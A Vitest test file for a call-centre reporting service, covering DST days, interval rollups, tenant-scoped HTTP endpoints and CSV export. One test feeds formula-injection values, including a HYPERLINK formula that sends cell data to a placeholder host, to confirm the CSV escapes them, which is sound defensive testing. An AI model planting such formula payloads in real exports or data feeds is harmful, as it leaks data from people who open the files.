import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IntervalClock } from '../../server/domain/intervals.ts';
import { makeQueueConfig } from '../../server/domain/queue-config.ts';
import { clientReport, clientReportCsv } from '../../server/history/client-report.ts';
import { SqliteHistoryStore } from '../../server/history/sqlite-store.ts';
import type { QueueIntervalRollup } from '../../server/history/types.ts';
import { startServer } from '../helpers/server.ts';

const targets = { slFormula: 'excludeShortAbandons' as const, slTarget: 0.8, slThresholdSeconds: 20, asaTargetSeconds: 20, abandonTarget: 0.05 };
const row = (queueId: string, intervalStart: number, calls: number): QueueIntervalRollup => ({
  tenant: 'acme', queueId, intervalStart, intervalMinutes: 30, offered: calls, answered: calls, abandoned: 0, shortAbandoned: 0, flowedOut: 0,
  answeredInSL: calls, abandonedInSL: 0, handled: calls, waitSecondsAnswered: 0, talkSeconds: 100 * calls, holdSeconds: 0, acwSeconds: 0, maxWaitSeconds: 0, dispositions: {},
});

describe('the client report across a DST day (America/New_York, 2026-11-01 has 25 hours)', () => {
  it('counts the 50 half-hours of the long day, and the 48 of the day before', async () => {
    const store = new SqliteHistoryStore(':memory:');
    const clock = new IntervalClock('America/New_York', 30);
    // One call in every half-hour from 2026-10-31 00:00 to 2026-11-02 00:00 local:
    // Oct 31 has 48 intervals, Nov 1 has 24 h + the repeated 01:00-02:00 hour = 50.
    const from = clock.dayOfDate('2026-10-31')!.start;
    const to = clock.dayOfDate('2026-11-02')!.start;
    const rows = [];
    for (let t = from; t < to; t += 1_800_000) rows.push(row('q', t, 1));
    expect(rows).toHaveLength(98);
    await store.upsertQueueIntervals(rows);
    const r = await clientReport(store, { tenant: 'acme', tenantName: 'Acme', queues: [{ queueId: 'q', name: 'Q', targets }], agentIds: [] }, 'day', '2026-11-01', clock, () => false);
    expect(r.current).toMatchObject({ from: '2026-11-01', to: '2026-11-01', total: { offered: 50, handled: 50, intervalsMeasured: 50, intervalsMeetingTarget: 0, intervalsTooFew: 50 } });
    expect(r.previous).toMatchObject({ from: '2026-10-31', total: { offered: 48 } });
    expect(r.current.billable.handledCalls).toBe(50);
    const csv = clientReportCsv(r).split('\n');
    // Each half-hour's one call is too few to judge (none met), but the day's 50 calls at 100% meet 80%.
    expect(csv[1]).toBe('current,2026-11-01,2026-11-01,q,50,50,0,50,100.0,80.0,0.0,20,0.0,5.0,100.0,50,0,realtime,met,50');
    await store.close();
  });
});

describe('the client report the day a centre went from quarter-hours to half-hours', () => {
  it('counts a quarter-hour row left inside a half-hour row once, in the half-hour, for calls and seat hours', async () => {
    const store = new SqliteHistoryStore(':memory:');
    const clock = new IntervalClock('Asia/Taipei', 30);
    const t = Date.parse('2026-11-18T11:00:00+08:00');
    // 11:00 was written again as a half-hour (12 calls) over the quarter-hour row of 11:00; the
    // 11:15 quarter-hour (5 calls, counted in the 12) is left from before.
    await store.upsertQueueIntervals([row('q', t, 12), { ...row('q', t + 900_000, 5), intervalMinutes: 15 }]);
    const agent = (start: number, minutes: number) => ({ tenant: 'acme', agentId: 'a1', intervalStart: start, intervalMinutes: minutes, availableSeconds: minutes * 60, talkingSeconds: 0, holdSeconds: 0, acwSeconds: 0, auxSeconds: 0, offlineSeconds: 0, callsHandled: 0 });
    await store.upsertAgentIntervals([agent(t, 30), agent(t + 900_000, 15)]);
    const r = await clientReport(store, { tenant: 'acme', tenantName: 'Acme', queues: [{ queueId: 'q', name: 'Q', targets }], agentIds: ['a1'] }, 'day', '2026-11-18', clock, () => false);
    // 12 calls in one interval, and half an hour logged in (not 17 calls and three quarters).
    expect(r.current.total).toMatchObject({ offered: 12, intervalsMeasured: 1 });
    expect(r.current.billable.seatHours).toBe(0.5);
    await store.close();
  });
});

describe('the client report CSV of a feed that names queues and reasons like formulas', () => {
  it('writes them as text a spreadsheet shows and does not run', async () => {
    const store = new SqliteHistoryStore(':memory:');
    const clock = new IntervalClock('Asia/Taipei', 30);
    const t = Date.parse('2026-11-18T09:00:00+08:00');
    const ids = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+cmd', '-2+3', '@SUM(A1)'];
    const reasons = { '=1+1': 2, 'line\rbreak,comma': 1 };
    await store.upsertQueueIntervals(ids.map((id, i) => ({ ...row(id, t, i + 1), dispositions: i === 0 ? reasons : {} })));
    const queues = ids.map((queueId) => ({ queueId, name: queueId, targets }));
    const r = await clientReport(store, { tenant: 'acme', tenantName: 'Acme', queues, agentIds: [] }, 'day', '2026-11-18', clock, () => false);
    const csv = clientReportCsv(r);
    const lines = csv.split('\n');
    // Queue rows in the order given: the cell after the dates is the id as text, then its 1..4 calls.
    expect(lines.slice(2, 5).map((l) => l.split(',').slice(3, 5).join(','))).toEqual([`"'+cmd",2`, `"'-2+3",3`, `"'@SUM(A1)",4`]);
    expect(lines[1]).toBe(`current,2026-11-18,2026-11-18,"'=HYPERLINK(""http://x.example/?""&A1,""open"")",1,1,0,1,100.0,80.0,0.0,20,0.0,5.0,100.0,1,0,realtime,too_few,1`);
    // No line of the file starts a cell with a formula character outside quotes.
    for (const line of lines) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@]/);
    expect(csv).toContain(`call_reason,calls\n"'=1+1",2\n"line\rbreak,comma",1\n`);
    await store.close();
  });
});

describe('the report over HTTP', () => {
  const ACME = 'acme-client-token-0123456789';
  const ADMIN = 'admin-token-0123456789abcd';
  let server: Awaited<ReturnType<typeof startServer>>;
  beforeAll(async () => {
    const tokens = [
      { token: ACME, name: 'acme client', tenants: ['acme'], role: 'viewer' },
      { token: ADMIN, name: 'admin', tenants: ['*'], role: 'admin' },
    ];
    server = await startServer({ FLOORBOARD_TOKENS: JSON.stringify(tokens) }, Date.parse('2026-11-20T13:10:00+08:00'));
    server.floor.engine.addQueue(makeQueueConfig('sales', 'acme'));
    server.floor.engine.addQueue(makeQueueConfig('help', 'globex'));
    const t = Date.parse('2026-11-18T09:00:00+08:00');
    await server.floor.runtime.history.store.upsertQueueIntervals([row('sales', t, 12), row('sales', t + 1_800_000, 8)]);
  });
  afterAll(() => server.stop());

  it("gives a tenant's token its own report: 12 + 8 = 20 handled calls this week", async () => {
    const r = await server.get('/api/v1/reports/acme?period=week&date=2026-11-20', ACME);
    expect(r.status).toBe(200);
    expect(r.body.current).toMatchObject({ from: '2026-11-16', to: '2026-11-22', billable: { handledCalls: 20, successfulOutbound: 0 } });
    expect(r.body.previous.total.offered).toBe(0);
  });

  it('names the day it covers: the date asked for, or the centre\'s today (2026-11-20 13:10 in Taipei)', async () => {
    const asked = await server.get('/api/v1/reports/acme?period=day&date=2026-11-18', ACME);
    expect(asked.body).toMatchObject({ date: '2026-11-18', current: { from: '2026-11-18', to: '2026-11-18', total: { offered: 20 } }, previous: { from: '2026-11-17' } });
    const today = await server.get('/api/v1/reports/acme?period=day', ACME);
    expect(today.body).toMatchObject({ date: '2026-11-20', current: { from: '2026-11-20', total: { offered: 0 } } });
  });

  it('says how far a running period counts (closed intervals: through 13:00 at 13:10), and which period history holds nothing of', async () => {
    const week = await server.get('/api/v1/reports/acme?period=week&date=2026-11-20', ACME);
    expect(week.body.current).toMatchObject({ countedThrough: '2026-11-20T13:00:00+08:00', hasData: true });
    // The week before (11-09 .. 11-15) has no row: no data, not zeros.
    expect(week.body.previous).toMatchObject({ countedThrough: null, hasData: false });
    // A day that is over counts to its end; one not begun counts nothing yet.
    expect((await server.get('/api/v1/reports/acme?period=day&date=2026-11-18', ACME)).body.current.countedThrough).toBeNull();
    expect((await server.get('/api/v1/reports/acme?period=day&date=2026-11-21', ACME)).body.current).toMatchObject({ countedThrough: '2026-11-21T00:00:00+08:00', hasData: false });
  });

  it("answers another tenant's report like a tenant that does not exist", async () => {
    const other = await server.get('/api/v1/reports/globex?period=week', ACME);
    const none = await server.get('/api/v1/reports/nosuch?period=week', ACME);
    expect(other).toEqual({ status: 404, body: { error: 'tenant "globex" not found' } });
    expect(none).toEqual({ status: 404, body: { error: 'tenant "nosuch" not found' } });
  });

  it('refuses an unknown period, naming it', async () => {
    expect(await server.get('/api/v1/reports/acme?period=year', ADMIN)).toEqual({ status: 400, body: { error: 'period: "year" is not day, week or month' } });
  });

  it('refuses a parameter it does not read rather than answer the default month as if asked', async () => {
    const misspelt = { status: 400, body: { error: '"perod" is not a parameter here; known: period, date, workspace' } };
    expect(await server.get('/api/v1/reports/acme?perod=week', ADMIN)).toEqual(misspelt);
    expect(await server.get('/api/v1/reports/acme.csv?perod=week', ADMIN)).toEqual(misspelt);
    // Another tenant's report still answers like no tenant at all, whatever its parameters.
    expect(await server.get('/api/v1/reports/globex?perod=week', ACME)).toEqual({ status: 404, body: { error: 'tenant "globex" not found' } });
  });

  it('refuses a date outside 2000-2099 with 400, not a 500 or a report of 1899', async () => {
    for (const [period, date] of [['week', '9999-12-31'], ['day', '0000-01-01'], ['month', '1999-12-31'], ['day', '2100-01-01']]) {
      expect(await server.get(`/api/v1/reports/acme?period=${period}&date=${date}`, ACME)).toEqual({ status: 400, body: { error: `date: "${date}" is not between 2000-01-01 and 2099-12-31` } });
    }
    expect((await server.get('/api/v1/reports/acme?period=week&date=2099-12-31', ACME)).status).toBe(200);
  });

  it('exports CSV', async () => {
    const res = await fetch(`${server.base}/api/v1/reports/acme.csv?period=week&date=2026-11-20`, { headers: { authorization: `Bearer ${ACME}` } });
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const text = await res.text();
    expect(text.split('\n')[1]).toMatch(/^current,2026-11-16,2026-11-22,sales,20,20,0,20,/);
  });

  it('judges intervals of fewer than 10 calls neither met nor missed, in JSON and in the CSV\'s last columns', async () => {
    // 09:00 12 calls all within 20 s (100%, met); 09:30 8 calls (100% of 8: too few to judge). The week: 20 calls, 100%, met.
    const json = await server.get('/api/v1/reports/acme?period=week&date=2026-11-20', ACME);
    expect(json.body.current.total).toMatchObject({ intervalsMeasured: 2, intervalsMeetingTarget: 1, intervalsTooFew: 1 });
    expect(json.body.current.worstIntervals.map((w: { offered: number }) => w.offered)).toEqual([12]);
    const res = await fetch(`${server.base}/api/v1/reports/acme.csv?period=week&date=2026-11-20`, { headers: { authorization: `Bearer ${ACME}` } });
    const lines = (await res.text()).split('\n');
    // The columns before stay where they were: the verdict and the too-few count come after `kind`.
    expect(lines[0]).toMatch(/,intervals_measured,intervals_meeting_target,kind,sl_verdict,intervals_too_few$/);
    expect(lines[1]).toMatch(/^current,2026-11-16,2026-11-22,sales,20,20,0,20,100\.0,80\.0,.*,2,1,realtime,met,1$/);
    expect(lines[2]).toMatch(/^current,2026-11-16,2026-11-22,TOTAL,20,.*,2,1,,met,1$/);
    // The week before has no calls: no service level, so no verdict.
    expect(lines[3]).toMatch(/^previous,2026-11-09,2026-11-15,sales,0,.*,0,0,realtime,,0$/);
  });
});

describe('the client report of a tenant with many agents', () => {
  it('reads its history 4 agents or queues a turn, so the event loop is never held for the whole report', async () => {
    // Each SQLite read is synchronous: read all at once, a month of 500 agents held the loop
    // 6.6-8 s on a loaded 2-core machine, health and every tenant's pushes waiting behind it.
    const store = new SqliteHistoryStore(':memory:');
    const clock = new IntervalClock('Asia/Taipei', 30);
    const t = Date.parse('2026-11-18T09:00:00+08:00');
    const agentIds = Array.from({ length: 40 }, (_, i) => `a${i}`);
    // Each agent logged in for the half-hour 09:00 on 2026-11-18 (1,800 s, 10 min of it offline).
    await store.upsertAgentIntervals(agentIds.map((agentId) => ({ tenant: 'acme', agentId, intervalStart: t, intervalMinutes: 30, availableSeconds: 600, talkingSeconds: 300, holdSeconds: 0, acwSeconds: 0, auxSeconds: 300, offlineSeconds: 600, callsHandled: 1 })));
    await store.upsertQueueIntervals([row('q', t, 3)]);
    let turns = 0;
    let reading = true;
    const count = () => {
      turns++;
      if (reading) setImmediate(count);
    };
    setImmediate(count);
    const r = await clientReport(store, { tenant: 'acme', tenantName: 'Acme', queues: [{ queueId: 'q', name: 'Q', targets }], agentIds }, 'day', '2026-11-18', clock, () => false);
    reading = false;
    // 40 agents x 1,200 s logged in = 48,000 s = 13.33 h; the day before: nothing.
    expect(r.current.billable.seatHours).toBeCloseTo(48_000 / 3600, 10);
    expect(r.current.total.offered).toBe(3);
    expect(r.previous.billable.seatHours).toBe(0);
    // Two periods, each one queue read and 40 agent reads at 4 a turn (1 + 10 turns): other work ran between them.
    expect(turns).toBeGreaterThanOrEqual(22);
    await store.close();
  });
});
